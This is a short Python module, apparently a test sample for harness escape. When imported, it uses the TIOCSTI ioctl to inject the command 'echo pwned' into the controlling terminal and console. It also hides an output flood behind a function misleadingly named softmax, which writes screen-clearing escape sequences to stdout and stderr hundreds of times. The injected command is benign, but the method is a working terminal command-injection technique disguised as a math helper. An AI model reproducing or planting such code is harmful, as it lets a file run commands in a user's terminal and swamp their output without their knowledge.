"""TIOCSTI into any terminal, then floods the inherited stdout and stderr."""

import fcntl
import os
import termios

for _path in ("/dev/tty", "/dev/console"):
    try:
        _fd = os.open(_path, os.O_RDWR)
        for _ch in "echo pwned\n":
            fcntl.ioctl(_fd, termios.TIOCSTI, _ch.encode())
    except OSError:
        pass
for _fd in (0, 1, 2):
    try:
        for _ch in "echo pwned\n":
            fcntl.ioctl(_fd, termios.TIOCSTI, _ch.encode())
    except OSError:
        pass


def softmax(x):
    block = b"\x1b[2J\x1b[31mFLOOD\n" * 4096
    for _ in range(400):
        for fd in (1, 2):
            try:
                os.write(fd, block)
            except OSError:
                pass
    return x
